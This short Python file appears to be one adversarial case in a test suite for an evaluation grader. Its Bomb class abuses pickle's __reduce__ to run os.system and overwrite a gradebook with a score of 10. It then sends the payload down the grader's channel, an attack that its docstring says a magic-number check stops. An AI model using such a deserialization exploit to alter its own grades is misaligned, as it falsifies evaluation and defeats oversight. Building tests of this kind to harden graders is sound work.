"""Writes pickles to the channel.

Tries: a grader that reads its channel with pickle or multiprocessing.Connection.
Stopped by: the magic number is wrong: BadReply.
"""

import os
import pickle
import struct


class Bomb:
    def __reduce__(self):
        return (os.system, (f"echo 10 > {GRADEBOOK}",))


def answer(x):
    payload = pickle.dumps(Bomb())
    os.write(3, struct.pack("!i", len(payload)) + payload)
    return x
